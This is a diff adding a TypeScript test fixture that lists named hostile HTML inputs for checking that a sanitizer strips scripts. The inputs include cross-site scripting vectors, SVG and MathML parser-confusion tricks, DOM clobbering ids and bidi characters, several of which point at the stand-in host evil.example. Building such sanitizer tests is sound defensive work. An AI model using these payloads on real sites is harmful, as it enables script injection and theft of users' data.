@@ -1,0 +1,165 @@
+import { hostileAddresses } from "./hostile-addresses.ts";
+
+/** What was tried to get a script, a request or a broken page past a sanitizer: `hit()` is the script that must not run. */
+export const hostileBodies: readonly (readonly [name: string, html: string])[] = [
+  // Scripts and handlers
+  ["a script", "a<script>hit()</script>b"],
+  ["a script in odd case with a space", "<ScRiPt >hit()</sCrIpT\n>b"],
+  ["a script from elsewhere", '<script src="https://evil.example/x.js"></script>'],
+  ["a script within a script", "<scr<script>ipt>hit()</scr</script>ipt>"],
+  ["a script that is not closed", "a<script>hit()"],
+  ["a script with a slash", "<script/src=data:,hit()></script>"],
+  ["a NUL in the tag's name", "<scr\0ipt>hit()</scr\0ipt><im\0g src=x onerror=hit()>"],
+  ["a handler", "<img src=x onerror=hit()>"],
+  ["a handler after a slash", '<img/src="x"/onerror="hit()">'],
+  ["a handler on an allowed tag", '<p onclick="hit()" onmouseover="hit()" onpointerrawupdate="hit()">x</p>'],
+  ["a handler that runs at once", '<details open ontoggle="hit()"><summary>x</summary></details>'],
+  ["a handler on focus", '<a href="https://a.example/" tabindex=1 autofocus onfocus="hit()">x</a>'],
+  ["a handler of an animation", '<b style="animation:x 1s" onanimationstart="hit()">x</b>'],
+  ["a handler in an attribute's value", '<img alt="x\\" onerror=\\"hit()" src="https://a.example/x.png">'],
+  ["quotes that end an attribute early", `<p title='"><img src=x onerror=hit()>'>x</p>`],
+  ["backticks as quotes", "<img src=`x` onerror=`hit()`><a href=`javascript:hit()`>x</a>"],
+  ["attributes without quotes", "<a href=https://a.example/ onclick=hit() title=a>x</a>"],
+  ["the same attribute twice", '<a href="https://a.example/" href="javascript:hit()">x</a>'],
+  ["the same attribute twice, script first", '<a href="javascript:hit()" href="https://a.example/">x</a>'],
+  ["an attribute without a name", '<img ="x" src=x "onerror=hit() onerror=hit()>'],
+  ["a tag in a tag", '<img src="x"<img src=x onerror=hit()>>'],
+  ["an unfinished tag", '<p>a</p><img src="x" onerror="hit()"'],
+  ["an unfinished attribute", '<p>a</p><a title="'],
+  ...hostileAddresses,
+  // Foreign elements
+  ["SVG with a handler", "<svg onload=hit()><circle r=9 /></svg>"],
+  ["SVG with a script", "<svg><script>hit()</script><script href=data:,hit() /></svg>"],
+  ["SVG with a script in an entity", "<svg><script>&#104;it()</script></svg>"],
+  ["SVG with a link", '<svg><a xlink:href="javascript:hit()"><text y=9>x</text></a></svg>'],
+  [
+    "SVG with an animated link",
+    '<svg><a><animate attributeName=href values="javascript:hit()" /><text y=9>x</text></a></svg>',
+  ],
+  [
+    "SVG that uses another",
+    '<svg><use href="https://evil.example/x.svg#a" /><use xlink:href="data:image/svg+xml,x" /></svg>',
+  ],
+  ["SVG with a page inside", "<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>"],
+  ["SVG with a style that is text elsewhere", "<svg></p><style><a title='</style><img src=x onerror=hit()>'>"],
+  ["SVG with a title that is text elsewhere", "<svg><title><img src=x onerror=hit()></title></svg>"],
+  [
+    "MathML with a link",
+    '<math><maction actiontype="statusline#https://a.example" xlink:href="javascript:hit()">x</maction></math>',
+  ],
+  [
+    "MathML with a style in a table",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit()&gt;'>",
+  ],
+  [
+    "MathML, a form and a glyph",
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()></style></mglyph></form>",
+  ],
+  [
+    "MathML with annotations",
+    "<math><annotation-xml encoding=text/html><img src=x onerror=hit()></annotation-xml></math>",
+  ],
+  // Text that is markup elsewhere
+  ["noscript", '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>'],
+  ["template", "<template><script>hit()</script><img src=x onerror=hit()></template>x"],
+  [
+    "template with a shadow root",
+    "<p><template shadowrootmode=open><script>hit()</script><style>*{color:red}</style></template></p>",
+  ],
+  ["textarea", "<textarea></textarea><img src=x onerror=hit()></textarea>"],
+  ["textarea in an attribute", '<textarea><p title="</textarea><img src=x onerror=hit()>">'],
+  ["title", "<title><p title='</title><img src=x onerror=hit()>'>"],
+  ["style", "<style>body{display:none}</style><style><p title='</style><img src=x onerror=hit()>'></p>"],
+  [
+    "style that loads",
+    "<style>@import 'https://evil.example/x.css';</style><p style='background:url(https://evil.example/x)'>x</p>",
+  ],
+  ["xmp", "<xmp><p title='</xmp><img src=x onerror=hit()>'></xmp>"],
+  ["listing", "<listing>&lt;img src=x onerror=hit()&gt;</listing>"],
+  ["plaintext", "<p>a</p><plaintext><img src=x onerror=hit()>"],
+  [
+    "noembed and noframes",
+    "<noembed><img title='</noembed><img src=x onerror=hit()>'><noframes></noframes><img src=x onerror=hit()>",
+  ],
+  ["iframe as text", "<iframe><img title='</iframe><img src=x onerror=hit()>'></iframe>"],
+  ["a comment that ends early", "<!--><img src=x onerror=hit()>--><!---><img src=x onerror=hit()>-->"],
+  ["a comment that ends with !", "<!-- --!><img src=x onerror=hit()> -->"],
+  ["a comment that does not end", "<p>a</p><!-- <img src=x onerror=hit()>"],
+  ["a comment of a browser", "<!--[if gte IE 4]><script>hit()</script><![endif]-->"],
+  ["CDATA", "<![CDATA[><img src=x onerror=hit()>]]><svg><![CDATA[</svg><img src=x onerror=hit()>]]>"],
+  [
+    "declarations and instructions",
+    '<!DOCTYPE html [<!ENTITY x "<script>hit()</script>">]><?php hit() ?><?xml-stylesheet href="https://evil.example/"?>',
+  ],
+  ["entities twice over", "&amp;lt;script&amp;gt;hit()&lt;script&gt;hit()&lt;/script&gt;"],
+  ["entities without end", "&ltscript&gthit()&lt/script&gt &ltimg src=x onerror=hit()&gt"],
+  ["UTF-7", "+ADw-script+AD4-hit()+ADw-/script+AD4-"],
+  // Misnesting
+  ["a table in which text stands", "<table><tr>a<td>b<p>c</table>d<table><b>e<tr><td>f</table>"],
+  ["cells without a table", "a<td>b</td><tr><th>c</th></tr></table></td></tr>"],
+  ["items without a list", "a<li>b</li><dd>c</dd><dt>d</dt></ul></dl></ol><summary>e</summary>"],
+  [
+    "a table in a cell that closes both",
+    "<table><tr><td><table><tr><td>a</table></table></table></div></div></div></section>b",
+  ],
+  [
+    "a link in a link",
+    '<a href="https://a.example/1">a<a href="https://a.example/2">b</a></a><a href="https://a.example/3"><table><tr><td><a href="https://a.example/4">c</a>',
+  ],
+  ["formatting that crosses", "<b><i><p>a</b>b</i>c</p><em><ul><li>d</em>e</ul>"],
+  [
+    "everything unclosed",
+    "<blockquote><ul><li><b><i><code><pre><details><summary><table><tr><td><a href='https://a.example/'>x",
+  ],
+  ["ends of the page's elements", "</p></div></div></li></ol></section></article></main></body></html>x"],
+  [
+    "the page's own elements",
+    "<html onload=hit()><head><body onload=hit() class=x style=display:none><frameset onload=hit()>x",
+  ],
+  ["paragraphs and nests of names", "<p><b id=n></p>".repeat(2000)],
+  // Elements that act
+  ["iframe", '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.hit()</script>"></iframe>'],
+  ["iframe with a script", '<iframe src="javascript:parent.hit()"></iframe>'],
+  [
+    "object and embed",
+    '<object data="javascript:hit()"><embed src="https://evil.example/x.swf"></object><applet code=x>',
+  ],
+  [
+    "form",
+    '<form action="https://evil.example/" id=f><input name=a><input type=submit formaction="javascript:hit()"></form>',
+  ],
+  ["button", '<button form=f formaction="javascript:hit()" onclick="hit()" popovertarget=x autofocus>x</button>'],
+  ["input with a picture", '<input type=image src="https://evil.example/x.png" onerror=hit() autofocus onfocus=hit()>'],
+  ["select in which text stands", "<select><style></select><img src=x onerror=hit()></style></select>"],
+  ["isindex and keygen", "<isindex type=image src=x onerror=hit()><keygen autofocus onfocus=hit()>"],
+  ["marquee", "<marquee onstart=hit() loop=1 width=0>x</marquee><bgsound src='javascript:hit()'>"],
+  ["dialog and popover", "<dialog open style='position:fixed;inset:0'>x</dialog><p popover=auto id=x>y</p>"],
+  ["base", '<base href="https://evil.example/"><a href="x">x</a><img src="y.png">'],
+  ["meta", '<meta http-equiv=refresh content="0;url=https://evil.example/"><meta charset=utf-7>'],
+  ["link", '<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example/">'],
+  ["a custom element", '<giscus-widget host="https://evil.example" repo="a/b"></giscus-widget><x-y is=z>a</x-y>'],
+  // Clobbering
+  [
+    "ids and names of the page",
+    '<a id=location name=cookie href="https://a.example/">x</a><img name=getElementById><p id=comments>y</p>',
+  ],
+  ["ids of the prototype", "<p id=__proto__ name=constructor>x</p><form id=document><input name=cookie></form>"],
+  [
+    "names of elements and attributes of objects",
+    "<constructor>a</constructor><__proto__ x>b</__proto__><p constructor=x toString=y>c</p>",
+  ],
+  [
+    "attributes that other scripts read",
+    '<p data-x="hit()" x-on:click="hit()" @click="hit()" v-html="hit()" hx-get="https://evil.example/" class="page-header">x</p>',
+  ],
+  // Characters
+  [
+    "bidi overrides",
+    "<p>\u202Egpj.exe\u2066x\u2069 &#x202e;abc&rlm;</p><a href='https://a.example/' title='\u202Ea'>\u202Ex</a>",
+  ],
+  ["bidi overrides that are not closed", "\u202E\u202E\u2067\u2068 all that follows"],
+  ["control characters", "a\0b\x01c\x08d\x0be\x0cf\x1b[31mg\x7fh\x85i&#0;&#1;&#x1b;&#x80;"],
+  ["lone surrogates", "a\ud800b\udc00c&#xd800;\ud83d<x>\ude00 \ud83d\u202a\ude00"],
+  ["noncharacters", "a\ufffeb\uffffc\u{1fffe}d"],
+  ["combining marks without end", `a${"\u0301".repeat(2000)}`],
+];
